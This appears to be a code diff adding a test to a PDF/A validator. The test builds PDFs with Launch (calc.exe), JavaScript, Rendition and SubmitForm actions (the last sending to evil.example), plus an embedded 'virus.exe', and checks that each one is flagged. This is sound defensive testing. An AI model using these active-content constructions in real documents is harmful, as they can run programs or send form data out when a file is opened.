@@ -4,6 +4,7 @@ import re
 import subprocess
 
 import pikepdf
+from pikepdf import Array, Dictionary, Name, String
 from pypdf import PdfReader
 
 from helpers import MINIMAL, final_pdf, helvetica_pdf, pdf_text, run
@@ -87,6 +88,48 @@ def test_the_validator_finds_what_breaks_pdfa(tmp_path, final_copy):
                   "enthält JavaScript (OpenAction)",
                   "Titel im Info-Verzeichnis und in XMP verschieden"):
         assert fault in found
+
+
+def test_the_validator_finds_active_content_in_links_chains_and_annotations(tmp_path,
+                                                                           final_copy):
+    """The attack of issue 14 (finding 1): a final PDF/A with a Launch link, a link running
+    a JavaScript stream (`/JS 12 0 R`) through a Rendition, a SubmitForm link, a GoTo link
+    whose /Next ends in JavaScript and an embedded .exe in a file-attachment annotation
+    passed with no problem at all."""
+    def annotate(annots, name):
+        with pikepdf.open(final_copy) as pdf:
+            page = pdf.pages[0].obj
+            page.Annots = Array([pdf.make_indirect(Dictionary(
+                Type=Name.Annot, Subtype=subtype, Rect=[72, 72, 200, 90], F=4, **keys))
+                for subtype, keys in annots(pdf, page)])
+            pdf.save(tmp_path / name)
+        return tmp_path / name
+
+    bad = annotate(lambda pdf, page: [
+        (Name.Link, {"A": Dictionary(S=Name.Launch, F=String("calc.exe"))}),
+        (Name.Link, {"A": Dictionary(S=Name.Rendition, OP=0,
+                                     JS=pdf.make_stream(b"app.alert('Rendition')"))}),
+        (Name.Link, {"A": Dictionary(S=Name.SubmitForm, F=String("https://evil.example/"))}),
+        (Name.Link, {"A": Dictionary(S=Name.GoTo, D=Array([page, Name.Fit]), Next=Dictionary(
+            S=Name.JavaScript, JS=String("app.alert(1)")))}),
+        (Name.FileAttachment, {"FS": pikepdf.AttachedFileSpec(pdf, b"MZ",
+                                                              filename="virus.exe").obj})],
+        "angriff.pdf")
+    found = pdfa.problems(bad)
+    for fault in ("Seite 1: Anmerkung Link mit Launch-Aktion",
+                  "Seite 1: Anmerkung Link mit Rendition-Aktion", "enthält JavaScript",
+                  "Seite 1: Anmerkung Link mit SubmitForm-Aktion",
+                  "Seite 1: Anmerkung Link mit JavaScript-Aktion",
+                  "Seite 1: Anmerkung FileAttachment (Dateianhang)",
+                  "enthält eingebettete Dateien"):
+        assert fault in found, (fault, found)
+    # What the check lets through: links within the document, to the web and to e-mail.
+    good = annotate(lambda pdf, page: [
+        (Name.Link, {"A": Dictionary(S=Name.GoTo, D=Array([page, Name.Fit]))}),
+        (Name.Link, {"A": Dictionary(S=Name.URI, URI=String("https://www.bielefeld.de/"))}),
+        (Name.Link, {"A": Dictionary(S=Name.URI, URI=String("mailto:rat@example.org"))})],
+        "verweise.pdf")
+    assert pdfa.problems(good) == []
 
 
 def test_a_file_that_claims_no_pdfa(tmp_path):
